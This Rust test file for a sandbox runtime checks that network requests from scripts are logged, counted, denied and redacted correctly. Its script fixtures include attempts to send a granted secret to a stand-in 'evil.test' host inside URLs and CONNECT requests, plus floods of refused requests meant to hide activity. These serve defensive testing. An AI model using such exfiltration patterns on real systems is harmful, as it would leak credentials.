//! What a script asks for is on record, whatever it does to hide it in a crowd or behind a slow
//! reader.

use belljar_runtime::{Decision, EventKind, ExecutionResult, NetworkVerdict, Sandbox};
use belljar_testing::{HANG, data, eventually};

use crate::world::World;

/// Runs a script; its result, and whom it was refused by the events.
async fn run_hearing(world: &World, sandbox: &Sandbox, script: &str) -> (ExecutionResult, Vec<String>) {
    let mut denied = Vec::new();
    let run = sandbox.run_with(world.script(script), |event| {
        if let EventKind::Denied { target, rule } = event.kind {
            denied.push(format!("{target} {rule}"));
        }
    });
    let result = tokio::time::timeout(HANG, run).await.expect("the run hangs").unwrap();
    (result, denied)
}

fn line<'a>(result: &'a ExecutionResult, host: &str, port: u16, denied: bool) -> Option<&'a Decision> {
    let is_denied = |line: &Decision| matches!(line.verdict, NetworkVerdict::Denied { .. });
    result.network.iter().find(|line| line.host == host && line.port == port && is_denied(line) == denied)
}

#[tokio::test]
async fn a_thousand_cheap_requests_hide_neither_a_refusal_nor_an_upload() {
    let Some(world) = World::new().await else { return };
    let sandbox = world.sandbox("api.test").await;
    let script = "s = proxy()\n\
                  for _ in range(1200):\n    s.sendall(request('/hello', more='')); seen = b''\n    while not seen.endswith(b'hello'): seen += s.recv(4096)\n\
                  s.close()\n\
                  body = 'x' * 200000\n\
                  ask(f'POST http://api.test:{ODD}/upload HTTP/1.1\\r\\nHost: api.test:{ODD}\\r\\nContent-Length: {len(body)}\\r\\nConnection: close\\r\\n\\r\\n{body}'.encode())\n\
                  ask(request('/', host='evil.test', port=HTTP))\n\
                  emit_result(1)";
    let (result, denied) = run_hearing(&world, &sandbox, script).await;
    assert_eq!(data(&result), "1");
    let upload = line(&result, "api.test", world.odd.port, false).expect("the upload is on record");
    assert!(upload.bytes_sent > 200_000 && upload.count == 1201, "{upload:?}");
    assert!(line(&result, "evil.test", world.http, true).is_some(), "{:#?}", result.network);
    assert!(denied.iter().any(|event| event.starts_with("evil.test:")), "{denied:?}");
}

#[tokio::test]
async fn a_crowd_of_refused_names_is_counted_and_hides_nothing_that_was_allowed() {
    let Some(world) = World::new().await else { return };
    let sandbox = world.sandbox("api.test").await;
    let script = "for number in range(1500): ask(request('/', host=f'n{number}.evil.test', port=HTTP))\n\
                  ask(request('/hello'))\nemit_result(1)";
    let (result, denied) = run_hearing(&world, &sandbox, script).await;
    assert_eq!(data(&result), "1");
    assert!(line(&result, "api.test", world.odd.port, false).is_some());
    let refused = result.network.iter().filter(|line| line.verdict != NetworkVerdict::Allowed);
    assert_eq!(refused.map(|line| line.count).sum::<u64>(), 1500, "each one is counted");
    assert!(result.network.len() <= 1100, "{} lines", result.network.len());
    assert!(denied.len() <= 1100, "{} events", denied.len());
    let said = result.warnings.join("\n");
    assert!(said.contains("network") && said.contains("more"), "{said:?}");
    assert!(denied.last().is_some_and(|event| event.contains("more")), "{:?}", denied.last());
}

#[tokio::test]
async fn bytes_are_in_the_step_in_which_they_flow() {
    let Some(world) = World::new().await else { return };
    let mut config = world.config("api.test", Vec::new());
    config.network_policy.plain_hosts = vec!["api.test".into()];
    let sandbox = world.runtime.sandbox(config).await.unwrap();
    let mut session = sandbox.session().await.unwrap();
    let first =
        session.step(world.script("s = tunnel(); s.sendall(b'first')\nemit_result(1)")).await.unwrap();
    assert_eq!(data(&first), "1");
    let second = session.step("s.sendall(b'x' * (10 << 20))\nemit_result(2)").await.unwrap();
    assert_eq!(data(&second), "2");
    let third = session.step("s.close()\nemit_result(3)").await.unwrap();
    let sum = |result: &ExecutionResult, figure: fn(&Decision) -> u64| {
        result.network.iter().map(figure).sum::<u64>()
    };
    let sent = |result: &ExecutionResult| sum(result, |line| line.bytes_sent);
    assert_eq!(first.network.len(), 1, "{first:#?}");
    assert!(sent(&second) > 0, "{second:#?}");
    // What was still on its way at the end of a step is the next one's, and nothing is lost or
    // counted twice.
    let (mut later, all) = (vec![first, second, third], 5 + (10 << 20));
    let until_all_is_there = async {
        while later.iter().map(sent).sum::<u64>() < all {
            later.push(session.step("emit_result(0)").await.unwrap());
        }
    };
    tokio::time::timeout(HANG, until_all_is_there).await.expect("some bytes are in no step");
    assert_eq!(later.iter().map(sent).sum::<u64>(), all);
    let made: u64 = later[1..].iter().map(|result| sum(result, |line| line.count)).sum();
    assert_eq!(
        (sum(&later[0], |line| line.count), made),
        (1, 0),
        "one connection was made, in the first step"
    );
}

#[tokio::test]
async fn a_granted_secret_is_neither_in_network_nor_in_denied_however_it_was_written() {
    let Some(world) = World::new().await else { return };
    let mut config = world.config("api.test", Vec::new());
    config.secrets = vec!["KEY".into()];
    let sandbox = world.runtime.sandbox(config).await.unwrap();
    // The value itself, as clients write it and in the case that clients make of it.
    let script = "import os\nkey = os.environ['KEY']\n\
                  for host in [f'user:{key}@evil.test', f'{key}.evil.test', f'{key.upper()}.evil.test', key.title()]:\n    ask(f'GET http://{host}/{key} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode())\n    ask(f'CONNECT {host}:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode())\n\
                  emit_result(1)";
    let (result, denied) = run_hearing(&world, &sandbox, script).await;
    assert_eq!(data(&result), "1");
    let said = format!("{:?} {denied:?}", result.network);
    assert!(!said.to_ascii_lowercase().contains(crate::world::SECRET), "{said}");
    assert!(said.contains("***.evil.test"), "{said}");
    assert_eq!(result.network.iter().map(|line| line.count).sum::<u64>(), 8, "{said}");
}

#[tokio::test]
async fn what_a_child_sends_while_nobody_reads_the_end_is_not_sent_uncounted() {
    // More events than the queue holds, so that the end of the run waits for its reader.
    for events in [62, 63, 64] {
        // Another server each time: the last request of one run may arrive during the next.
        let Some(world) = World::new().await else { return };
        let sandbox = world.sandbox("api.test").await;
        let script = format!(
            "ready, begun = os.pipe()\n\
             if os.fork() == 0:\n    os.setsid()\n    while True:\n        ask(request('/hello', port=HTTP)); os.write(begun, b'1')\n\
             for _ in range(5): os.read(ready, 1)\n\
             for _ in range({events}): emit_intermediate('l', 1)\nemit_result(1)"
        );
        let mut execution = sandbox.stream(world.script(&script));
        let first = tokio::time::timeout(HANG, execution.next()).await.expect("it hangs");
        assert!(first.is_some());
        // Nobody holds the cell any more, though its end has not been read.
        eventually("the cell is given up", || sandbox.stats().leased == 0).await;
        let mut after = 0;
        while execution.next().await.is_some() {
            after += 1;
        }
        assert!(after > events, "{after} events");
        let result = execution.result().await.unwrap();
        let sent = world.take_keys().len() as u64;
        let counted = line(&result, "api.test", world.http, false).map_or(0, |line| line.count);
        assert!(counted >= sent && sent >= 5, "{counted} of {sent} requests are on record");
    }
}
